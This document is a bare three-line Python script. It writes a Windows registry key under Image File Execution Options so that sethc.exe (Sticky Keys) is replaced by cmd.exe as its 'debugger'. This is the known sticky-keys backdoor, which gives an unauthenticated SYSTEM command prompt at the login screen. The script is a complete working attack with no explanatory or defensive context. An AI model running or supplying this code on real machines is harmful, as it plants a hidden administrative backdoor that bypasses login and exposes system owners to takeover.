import winreg
key = winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe")
winreg.SetValueEx(key, "Debugger", 0, winreg.REG_SZ, r"C:\Windows\System32\cmd.exe")
